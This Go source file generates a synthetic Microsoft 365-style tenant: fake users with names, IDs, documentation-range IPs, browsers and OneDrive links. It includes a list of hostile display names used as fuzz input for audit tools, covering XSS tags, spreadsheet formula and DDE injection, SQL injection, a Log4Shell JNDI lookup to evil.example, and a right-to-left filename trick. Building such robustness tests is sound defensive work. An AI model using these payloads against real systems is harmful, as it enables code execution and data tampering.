package tenant

import (
	"math/rand/v2"
	"slices"
	"strconv"
	"strings"
)

// User is a person of the tenant, or a guest.
type User struct {
	ID          string
	UPN         string
	DisplayName string
	GivenName   string
	Surname     string
	Mail        string
	JobTitle    string
	Department  string
	Office      int // index of the office
	Guest       bool
	Enabled     bool

	PUID, SID, MailboxID         string
	Alias                        string
	OfficeIP, HomeIP, MobileIP   string
	Agent, Browser, OS, OneDrive string
	OneDriveSite                 string
}

// name is a person's name and how it is spelt in an address.
type name struct{ text, ascii string }

var givenNames = []name{
	{"Ada", ""}, {"Amir", ""}, {"Anna", ""}, {"Aoife", ""}, {"Ben", ""}, {"Bianca", ""}, {"Carlos", ""}, {"Charlotte", ""},
	{"Chloé", "chloe"}, {"Daniel", ""}, {"David", ""}, {"Diego", ""}, {"Elena", ""}, {"Emeka", ""}, {"Emma", ""}, {"Erik", ""},
	{"Fatima", ""}, {"Felix", ""}, {"François", "francois"}, {"Giulia", ""}, {"Grace", ""}, {"Hannah", ""}, {"Hugo", ""}, {"Ines", ""},
	{"Ivan", ""}, {"Jack", ""}, {"Jana", ""}, {"Jürgen", "juergen"}, {"Kavya", ""}, {"Kenji", ""}, {"Klara", ""}, {"Lars", ""},
	{"Laura", ""}, {"Liam", ""}, {"Linh", ""}, {"Łukasz", "lukasz"}, {"Magnus", ""}, {"Maria", ""}, {"Mateo", ""}, {"Mei", ""},
	{"Mohammed", ""}, {"Nadia", ""}, {"Nikos", ""}, {"Noah", ""}, {"Olga", ""}, {"Oliver", ""}, {"Omar", ""}, {"Paula", ""},
	{"Pavel", ""}, {"Priya", ""}, {"Rachel", ""}, {"Rahul", ""}, {"Raúl", "raul"}, {"Rosa", ""}, {"Sam", ""}, {"Sanjay", ""},
	{"Sara", ""}, {"Søren", "soren"}, {"Sofia", ""}, {"Tariq", ""}, {"Tess", ""}, {"Thomas", ""}, {"Tom", ""}, {"Uma", ""},
	{"Victor", ""}, {"Wei", ""}, {"Yuki", ""}, {"Zoë", "zoe"}, {"美咲", "misaki"}, {"Владимир", "vladimir"}, {"عمر", "omar2"},
}

var surnames = []name{
	{"Abbott", ""}, {"Adeyemi", ""}, {"Ahmed", ""}, {"Almeida", ""}, {"Andersson", ""}, {"Bauer", ""}, {"Becker", ""}, {"Bianchi", ""},
	{"Brown", ""}, {"Castro", ""}, {"Chen", ""}, {"Clarke", ""}, {"Costa", ""}, {"Das", ""}, {"Dubois", ""}, {"Eriksen", ""},
	{"Evans", ""}, {"Fernández", "fernandez"}, {"Fischer", ""}, {"Garcia", ""}, {"Gupta", ""}, {"Haddad", ""}, {"Hansen", ""}, {"Harris", ""},
	{"Hoffmann", ""}, {"Iyer", ""}, {"Jansen", ""}, {"Jones", ""}, {"Kaya", ""}, {"Kim", ""}, {"Kowalski", ""}, {"Kumar", ""},
	{"Lambert", ""}, {"Larsen", ""}, {"Lee", ""}, {"Lindqvist", ""}, {"Lopez", ""}, {"Martin", ""}, {"Mehta", ""}, {"Meyer", ""},
	{"Moreau", ""}, {"Müller", "mueller"}, {"Nakamura", ""}, {"Nguyen", ""}, {"Novák", "novak"}, {"O'Brien", "obrien"}, {"O'Neill", "oneill"}, {"Okafor", ""},
	{"Olsen", ""}, {"Park", ""}, {"Patel", ""}, {"Petrov", ""}, {"Quinn", ""}, {"Ramírez", "ramirez"}, {"Rao", ""}, {"Reed", ""},
	{"Rossi", ""}, {"Sato", ""}, {"Schmidt", ""}, {"Sharma", ""}, {"Silva", ""}, {"Singh", ""}, {"Smith", ""}, {"Suzuki", ""},
	{"Taylor", ""}, {"Tran", ""}, {"van der Berg", "vanderberg"}, {"Walker", ""}, {"Weber", ""}, {"Wójcik", "wojcik"}, {"Yılmaz", "yilmaz"}, {"Young", ""},
}

// hostileNames are display names that have broken somebody's audit tool: markup,
// formulas, quotes, wildcards, direction overrides, templates.
var hostileNames = []string{
	`<script>alert(document.domain)</script>`,
	`"><img src=x onerror=alert(1)>`,
	`=HYPERLINK("https://evil.example/?q="&A1,"Open")`,
	`+1-2*cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd`,
	`Robert'); DROP TABLE events;--`,
	`100%_sure*[x]?`,
	`{{7*7}} ${jndi:ldap://evil.example/a}`,
	"Invoice \u202etxt.exe",
	"Tab\tNew\r\nLine",
	`C:\Temp\new "folder"`,
	"😀 Zero\u200bWidth",
}

var departments = []string{"Finance", "Human Resources", "IT", "Legal", "Logistics", "Marketing", "Operations", "Procurement", "Research", "Sales", "Support"}
var jobTitles = []string{"Analyst", "Assistant", "Consultant", "Coordinator", "Director", "Engineer", "Lead", "Manager", "Officer", "Specialist", "Technician"}

var partnerDomains = []string{"fabrikam.example", "northwind.example", "adventure-works.example", "tailspin.example", "wingtip.example"}

var agents = []struct{ agent, browser, os string }{
	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0", "Edge 131.0.0", "Windows10"},
	{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36", "Chrome 130.0.0", "Windows10"},
	{"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15", "Safari 17.5", "MacOs"},
	{"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0", "Firefox 132.0", "Linux"},
	{"Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148", "Mobile Safari", "Ios 17.5"},
	{"Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36 PKeyAuth/1.0", "Chrome Mobile 131.0.0", "Android 14"},
}

// hire makes the people. About one in fifty is a guest and one in two hundred has a
// hostile display name.
func (t *Tenant) hire(rng *rand.Rand) {
	taken := make(map[string]int, t.cfg.Users)
	domainSID := "S-1-5-21-" + strconv.Itoa(1000000000+rng.IntN(900000000)) + "-" + strconv.Itoa(1000000000+rng.IntN(900000000)) + "-" + strconv.Itoa(1000000000+rng.IntN(900000000))
	t.Users = make([]User, t.cfg.Users)
	for i := range t.Users {
		u := &t.Users[i]
		given, sur := givenNames[rng.IntN(len(givenNames))], surnames[rng.IntN(len(surnames))]
		u.GivenName, u.Surname = given.text, sur.text
		u.DisplayName = given.text + " " + sur.text
		u.Alias = ascii(given) + "." + ascii(sur)
		taken[u.Alias]++
		if n := taken[u.Alias]; n > 1 {
			u.Alias += strconv.Itoa(n)
		}
		u.ID, u.PUID, u.MailboxID = newGUID(rng), newPUID(rng), newGUID(rng)
		u.SID = domainSID + "-" + strconv.Itoa(20_000_000+i)
		u.UPN = u.Alias + "@" + t.cfg.Domain
		u.Mail = u.UPN
		u.Department = departments[rng.IntN(len(departments))]
		u.JobTitle = jobTitles[rng.IntN(len(jobTitles))]
		u.Enabled = rng.IntN(40) != 0
		u.Office = t.placeOf(rng.Float64())
		o := t.offices[u.Office]
		u.OfficeIP = o.net + "." + strconv.Itoa(rng.IntN(4)) + "." + strconv.Itoa(1+rng.IntN(250))
		u.HomeIP = "198.51.100." + strconv.Itoa(rng.IntN(256))
		u.MobileIP = "2001:db8:" + strconv.FormatInt(int64(u.Office+1), 16) + ":" + strconv.FormatInt(int64(1+i%0xfffe), 16) + "::" + strconv.FormatInt(int64(1+rng.IntN(0xfffe)), 16)
		a := agents[rng.IntN(len(agents))]
		u.Agent, u.Browser, u.OS = a.agent, a.browser, a.os
		if i%200 == 77 {
			u.DisplayName = hostileNames[(i/200)%len(hostileNames)]
		}
		if i%50 == 13 {
			u.Guest = true
			u.Mail = u.Alias + "@" + partnerDomains[rng.IntN(len(partnerDomains))]
			u.UPN = strings.ReplaceAll(u.Mail, "@", "_") + "#EXT#@" + t.initial
		} else {
			t.members = append(t.members, i)
		}
		folder := strings.NewReplacer(".", "_", "@", "_").Replace(u.UPN)
		u.OneDrive = "https://" + t.label() + "-my.sharepoint.com/personal/" + folder
		u.OneDriveSite = newGUID(rng)
	}
	for range max(3, len(t.members)/150) {
		t.staff = append(t.staff, t.members[rng.IntN(len(t.members))])
	}
}

func ascii(n name) string {
	if n.ascii != "" {
		return n.ascii
	}
	return strings.ToLower(n.text)
}

func (t *Tenant) label() string {
	label, _, _ := strings.Cut(t.initial, ".")
	return label
}

func (t *Tenant) placeOf(f float64) int {
	for i, o := range t.offices {
		if f -= o.share; f < 0 {
			return i
		}
	}
	return 0
}

// Members are the people who are not guests: first those who administer something, then
// all others.
func (t *Tenant) Members() []*User {
	seen := make(map[int]bool, len(t.members))
	list := make([]*User, 0, len(t.members))
	for _, i := range slices.Concat(t.staff, t.members) {
		if !seen[i] {
			seen[i] = true
			list = append(list, &t.Users[i])
		}
	}
	return list
}
